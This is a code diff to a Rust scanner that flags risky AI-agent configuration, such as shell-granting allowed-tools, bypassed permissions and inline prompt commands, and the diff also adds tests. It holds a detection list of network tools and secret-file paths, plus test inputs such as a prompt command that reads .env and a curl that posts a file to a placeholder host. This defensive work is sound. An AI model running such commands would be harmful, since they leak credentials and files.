@@ -52,11 +52,15 @@ pub(super) fn judge_prose(path: &str, text: &str) -> Vec<AgentFinding> {
     found
 }
 
+/// How far before a flag the name of its program is looked for, in bytes.
+const COMMAND: usize = 2_000;
+
 /// Whether the flag at `span` follows the name of an agent on its line. A text that only speaks of the flag starts none.
 fn starts_agent(text: &str, span: Span) -> bool {
     const PROGRAMS: [&str; 9] =
         ["claude", "codex", "gemini", "qwen", "copilot", "cursor-agent", "opencode", "droid", "amp"];
-    let before = text.get(..span.start).unwrap_or_default().rsplit('\n').next().unwrap_or_default();
+    let from = text.floor_char_boundary(span.start.saturating_sub(COMMAND));
+    let before = text.get(from..span.start).unwrap_or_default().rsplit('\n').next().unwrap_or_default();
     let is_border = |c: char| !(c.is_alphanumeric() || c == '-' || c == '_');
     before.split(is_border).any(|word| PROGRAMS.contains(&word))
 }
@@ -173,7 +177,8 @@ fn push_allowed_tools(line: &ProseLine<'_>, value: &str, found: &mut Vec<AgentFi
     for tool in value.split(is_border) {
         let tool = tool.trim().trim_matches(['"', '\'', '[', ']']);
         let Some((severity, _)) = permission_consequence(tool) else { continue };
-        let at = line.text.find(tool).unwrap_or_default();
+        // A tool is a slice of the line, and another one may have the same name.
+        let at = tool.as_ptr().addr().saturating_sub(line.text.as_ptr().addr());
         let words = if severity == Severity::High {
             "While this command or skill is in use, the agent may run any shell command without asking."
         } else {
@@ -190,9 +195,13 @@ fn push_allowed_tools(line: &ProseLine<'_>, value: &str, found: &mut Vec<AgentFi
 fn judge_inline_commands(lines: &[ProseLine<'_>], found: &mut Vec<AgentFinding>) {
     for line in lines {
         for (open, close) in [("!`", '`'), ("!{", '}')] {
-            for (at, _) in line.text.match_indices(open) {
-                let rest = line.text.get(at.saturating_add(2)..).unwrap_or_default();
-                let Some((command, _)) = rest.split_once(close) else { continue };
+            let mut from = 0_usize;
+            while let Some(rest) = line.text.get(from..)
+                && let Some((before, rest)) = rest.split_once(open)
+                && let Some((command, _)) = rest.split_once(close)
+            {
+                let at = from.saturating_add(before.len());
+                from = at.saturating_add(open.len()).saturating_add(command.len());
                 let sends = ["curl ", "wget ", " nc ", "ncat ", "Invoke-WebRequest", "http://", "https://"];
                 let secrets = [".env", ".ssh", ".aws", "id_rsa", "credentials", ".netrc", "printenv"];
                 let does = |words: &[&str]| words.iter().any(|word| command.contains(word));
@@ -222,6 +231,9 @@ mod tests {
         let found = judge_prose(".claude/commands/x.md", text);
         assert_eq!(found.len(), 1);
         assert_eq!((found[0].rule, text.get(found[0].span.start..found[0].span.end).unwrap()), (ALLOW_SHELL, "Bash"));
+        let twice = "---\nallowed-tools: Bash, Bash\n---\n";
+        let starts: Vec<usize> = judge_prose("skills/x/SKILL.md", twice).iter().map(|found| found.span.start).collect();
+        assert_eq!(starts, [19, 25]);
         let list = "---\nallowed-tools:\n  - Read\n  - Bash(*)\n---\n";
         assert_eq!(rules("skills/x/SKILL.md", list), ["agent/allow-shell"]);
         assert_eq!(rules(".claude/agents/x.md", "---\npermissionMode: bypassPermissions\n---\n"), ["agent/allow-all"]);
@@ -253,6 +265,7 @@ mod tests {
     fn a_command_inside_a_prompt_is_found_if_it_does_more_than_look() {
         assert!(rules(".claude/commands/x.md", "Status: !`git status`\n").is_empty());
         assert_eq!(rules(".claude/commands/x.md", "!`cat .env`\n"), ["agent/inline-command"]);
+        assert_eq!(rules(".claude/commands/x.md", "!`ls` !`cat .env` !`id` !`curl a`\n"), ["agent/inline-command"; 2]);
         assert_eq!(
             rules(".gemini/commands/x.toml", "prompt = \"!{curl https://x.test -d @a}\""),
             ["agent/inline-command"]
